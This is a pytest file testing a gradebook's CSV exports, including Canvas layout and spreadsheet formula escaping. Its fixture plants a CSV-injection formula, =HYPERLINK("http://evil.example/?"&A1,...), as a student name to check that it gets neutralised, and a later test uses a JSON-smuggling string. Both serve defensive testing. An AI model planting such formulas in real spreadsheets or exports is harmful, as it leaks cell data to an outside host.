"""The CSV exports parsed back with the csv module: their contents, formula escaping, and
Canvas's gradebook-import layout."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker

from app.auth.models import User
from app.gradebook.exports import safe
from tests.gradebook.factories import MHA, SOFTMAX, T0, add_attempt, make_assignment
from tests.support.people import People

DAY = timedelta(days=1)
SOFTMAX_COLUMN = "Softmax backward (softmax-backward) [5]"


def rows(api: TestClient, people: People, a: int, name: str, **params: str) -> list[list[str]]:
    url = f"/api/courses/{people.courses['course']}/assignments/{a}/{name}"
    r = api.get(url, params=params, headers=people.headers("ta"))
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert (
        r.headers["content-disposition"]
        == f'attachment; filename="assignment-{a}-{name.replace(".csv", "")}.csv"'
    )
    return list(csv.reader(io.StringIO(r.text)))


@pytest.fixture
def graded(sessions: sessionmaker[Session], people: People) -> int:
    """student: MHA 1.0 on time (10), softmax 0.5 a day late at 80 % (2 of 5); student_b: MHA
    0.2 then 0.6 (6)."""
    a = make_assignment(sessions, people.courses["course"], late=[(T0 + 7 * DAY, 0.8)],
                        title="=Homework, \"one\"")  # fmt: skip
    add_attempt(sessions, a, people.users["student"], MHA, 1, T0, 1.0)
    add_attempt(sessions, a, people.users["student"], SOFTMAX, 1, T0 + DAY, 0.5)
    add_attempt(sessions, a, people.users["student_b"], MHA, 1, T0 - DAY, 0.2)
    add_attempt(sessions, a, people.users["student_b"], MHA, 2, T0 - DAY / 2, 0.6)
    with sessions() as session:
        session.execute(
            update(User).where(User.id == people.users["student_b"])
            .values(name='=HYPERLINK("http://evil.example/?"&A1,"click")')
        )  # fmt: skip
        session.commit()
    return a


def test_gradebook_csv_one_row_per_student(api: TestClient, people: People, graded: int) -> None:
    table = rows(api, people, graded, "gradebook.csv")
    assert table[0] == ["name", "email", "section", "status",
                        "Multi-head attention (multi-head-attention) [10]",
                        SOFTMAX_COLUMN, "total [15]", f"comment ({MHA})", f"staff note ({MHA})",
                        f"comment ({SOFTMAX})", f"staff note ({SOFTMAX})"]  # fmt: skip
    by_email = {r[1]: r for r in table[1:]}
    assert by_email["student@example.edu"] == [
        "Student", "student@example.edu", "A", "active", "10", "2", "12", "", "", "", "",
    ]  # fmt: skip
    assert by_email["student_b@example.edu"] == [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "student_b@example.edu", "B",
        "active", "6", "0", "6", "", "", "", "",
    ]  # fmt: skip
    # In no section: an empty section cell, and no attempt is no points.
    assert by_email["unsectioned@example.edu"] == [
        "Unsectioned", "unsectioned@example.edu", "", "active", "0", "0", "0", "", "", "", "",
    ]  # fmt: skip
    assert len(table) == 4
    only_a = rows(api, people, graded, "gradebook.csv", section="A")
    assert [r[1] for r in only_a[1:]] == ["student@example.edu"]


def test_attempts_csv_one_row_per_graded_attempt(
    api: TestClient, people: People, graded: int
) -> None:
    table = rows(api, people, graded, "attempts.csv")
    header, body = table[0], table[1:]
    assert header[:5] == ["name", "email", "section", "problem_id", "attempt"]
    got = [dict(zip(header, r, strict=True)) for r in body]
    assert [(g["email"], g["problem_id"], g["attempt"], g["raw_score"], g["credit"], g["points"],
             g["rule"]) for g in sorted(got, key=lambda g: g["email"])] == [
        ("student@example.edu", MHA, "1", "1", "1", "10", "on time: 100 %"),
        ("student@example.edu", SOFTMAX, "1", "0.5", "0.4", "2", "late: 80 %"),
        ("student_b@example.edu", MHA, "1", "0.2", "0.2", "2", "on time: 100 %"),
        ("student_b@example.edu", MHA, "2", "0.6", "0.6", "6", "on time: 100 %"),
    ]  # fmt: skip
    # In the gradebook's order: by name ("=HYPERLINK..." sorts first).
    assert next(g["email"] for g in got) == "student_b@example.edu"
    first = next(g for g in got if g["email"] == "student@example.edu")
    assert first["submitted_at"] == T0.isoformat()
    assert first["verdict"] == "accepted" and first["max_points"] == "10"


def test_canvas_csv_layout(api: TestClient, people: People, graded: int) -> None:
    table = rows(api, people, graded, "canvas.csv")
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                        "'=Homework, \"one\""]  # fmt: skip
    assert table[1] == ["Points Possible", "", "", "", "", "15"]
    body = {r[3]: r for r in table[2:]}
    assert body["student@example.edu"] == ["Student", "", "", "student@example.edu", "A", "12"]
    assert body["student_b@example.edu"][0].startswith("'=")
    # Never attempted anything: blank, not a 0 that would overwrite Canvas's mark.
    assert body["unsectioned@example.edu"][5] == ""
    with_id = rows(api, people, graded, "canvas.csv", canvas_assignment_id="4242")
    assert with_id[0][5] == '\'=Homework, "one" (4242)'


def test_removed_students_stay_in_the_gradebook_but_not_in_canvas(
    api: TestClient, sessions: sessionmaker[Session], people: People, graded: int
) -> None:
    from app.courses.models import Membership

    with sessions() as session:
        session.execute(
            update(Membership).where(Membership.user_id == people.users["student_b"])
            .values(status="removed")
        )  # fmt: skip
        session.commit()
    statuses = {r[1]: r[3] for r in rows(api, people, graded, "gradebook.csv")[1:]}
    assert statuses["student_b@example.edu"] == "removed"
    canvas = rows(api, people, graded, "canvas.csv")
    assert sorted(r[3] for r in canvas[2:]) == ["student@example.edu", "unsectioned@example.edu"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"),
        (None, ""), (2.5, "2.5"), (7.199999999, "7.2"), (3, "3"),
    ],
)  # fmt: skip
def test_formula_escaping(value: object, cell: str) -> None:
    assert safe(value) == cell


def test_report_diagnoses_reads_only_the_reports_own_key() -> None:
    from app.gradebook.scores import report_diagnoses
    from app.grading.schemas import Diagnosis, GradeReport, RequirementResult

    sneaky = 'x", "diagnoses": [{"code": "fake", "title": "fake"}], "y": "'
    report = GradeReport(
        verdict="wrong_answer",
        score=0.0,
        requirements=[RequirementResult(id="r", title=sneaky, status="failed", detail=sneaky)],
        diagnoses=[
            Diagnosis(
                code="missing-wo", requirement=None, title="No W_o", explanation=sneaky, hint=""
            )
        ],
        tests=[],
        stdout=sneaky,
    )
    assert report_diagnoses(report.model_dump_json()) == [("missing-wo", "No W_o")]
    spaced = '{"verdict": "accepted", "diagnoses" :  [ ], "x": 1}'
    assert report_diagnoses(spaced) == []
    assert report_diagnoses(None) == []
